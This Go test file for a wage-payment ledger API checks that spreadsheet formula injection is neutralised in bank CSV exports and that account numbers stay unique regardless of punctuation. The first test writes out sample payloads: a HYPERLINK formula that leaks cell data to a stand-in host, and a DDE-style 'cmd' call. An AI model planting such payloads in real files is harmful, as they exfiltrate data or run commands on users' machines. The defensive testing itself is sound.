package httpapi_test

import (
	"strings"
	"testing"

	"github.com/wageguard/wageguard/ledger"
	"github.com/wageguard/wageguard/pkg/store"
	"github.com/wageguard/wageguard/pkg/store/storetest"
)

// Issue 16, item 7: a contractor named =HYPERLINK(…) went unescaped into
// the bank instruction file, the one file that carries full card numbers;
// a project code @SUM(…)*cmd|… and account numbers "-1100000009" and
// "--------" were accepted. Cells are neutralised, codes and account
// numbers read by their grammar.
func TestFormulaInjectionNeutralised(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		owner, bank := e.org(ledger.OrgOwner, "110105"), e.org(ledger.OrgBank, "110105")
		evil := `=HYPERLINK("http://evil.example/?x="&A1,"点击")`
		gc := e.must(201, "POST", "/api/v1/organizations", e.admin, map[string]any{
			"name": evil, "uscc": uscc(t, nextSeq()), "kind": ledger.OrgGeneralContractor, "region_code": "110105"}).str(t, "id")

		for _, bad := range []struct{ field, value string }{
			{"code", `@SUM(1+1)*cmd|' /C calc'!A0`}, {"code", "=1+1"},
			{"account_no", "-1100000009"}, {"account_no", "--------"}, {"account_no", "1100--0000-0001"},
		} {
			body := projectBody("F-"+itoa(nextSeq()), "110105", owner, gc, bank)
			if bad.field == "code" {
				body["code"] = bad.value
			} else {
				body["wage_account"] = map[string]any{"bank_id": bank, "account_no": bad.value}
			}
			want := map[string]string{"code": "0:code:format", "account_no": "0:wage_account.account_no:invalid"}[bad.field]
			if r := e.do("POST", "/api/v1/projects", e.admin, body); r.Status != 422 || strings.Join(errorsOf(t, r), " ") != want {
				t.Errorf("%s %q: %d %s", bad.field, bad.value, r.Status, r.Body)
			}
		}

		project := e.must(201, "POST", "/api/v1/projects", e.admin, projectBody("F-"+itoa(nextSeq()), "110105", owner, gc, bank)).str(t, "id")
		gcKey := e.key(gc, ledger.RoleContractor)
		enr := e.enrol(project, gcKey, workerBody(nextSeq(), gc, bank))
		pay := e.must(201, "POST", "/api/v1/projects/"+project+"/payrolls", gcKey, payrollBody(gc, "2026-10", project, e, enr)).str(t, "id")
		e.must(200, "POST", "/api/v1/payrolls/"+pay+"/approve", gcKey, nil)
		file := string(e.must(200, "GET", "/api/v1/payrolls/"+pay+"/instructions", e.key(bank, ledger.RoleBank), nil, "Accept", "text/csv").Body)
		if strings.Contains(file, `,"=HYPERLINK`) || !strings.Contains(file, `"'=HYPERLINK(`) {
			t.Errorf("the payer's name is not neutralised in the bank file:\n%s", file)
		}
		v, _ := enrolled.Load(enr)
		if card := v.(map[string]any)["bank_card"].(string); !strings.Contains(file, ","+card+",") {
			t.Errorf("the card number is not plain digits in the bank file:\n%s", file)
		}
	})
}

// Issue 16, item 14: "1100-0000-0000-0001" beside "1100000000000001" at the
// same bank passed the uniqueness of wage accounts. The number is stored as
// its digits, so the second is a conflict, and an inflow quoting the
// account either way finds the project.
func TestWageAccountUniqueWhateverItsPunctuation(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db)
		owner, gc, bank := e.org(ledger.OrgOwner, "110105"), e.org(ledger.OrgGeneralContractor, "110105"), e.org(ledger.OrgBank, "110105")
		acct := "1100" + leftPad(nextSeq(), 12)
		first := projectBody("A-"+itoa(nextSeq()), "110105", owner, gc, bank)
		first["wage_account"] = map[string]any{"bank_id": bank, "account_no": acct[:4] + "-" + acct[4:8] + "-" + acct[8:12] + "-" + acct[12:]}
		p := e.must(201, "POST", "/api/v1/projects", e.admin, first).json(t)
		if got := p["wage_account"].(map[string]any)["account_no"]; got != acct {
			t.Errorf("stored account %v, want its digits %s", got, acct)
		}
		for _, same := range []string{acct, acct[:4] + " " + acct[4:]} {
			second := projectBody("A-"+itoa(nextSeq()), "110105", owner, gc, bank)
			second["wage_account"] = map[string]any{"bank_id": bank, "account_no": same}
			if r := e.do("POST", "/api/v1/projects", e.admin, second); r.Status != 409 {
				t.Errorf("a second project on %q: %d %s", same, r.Status, r.Body)
			}
		}
		inflow := map[string]any{"account_no": acct[:8] + "-" + acct[8:], "amount": "1000.00", "received_on": "2026-11-01", "bank_ref": "IN-" + itoa(nextSeq())}
		e.must(201, "POST", "/api/v1/bank/inflows", e.key(bank, ledger.RoleBank), inflow)
	})
}
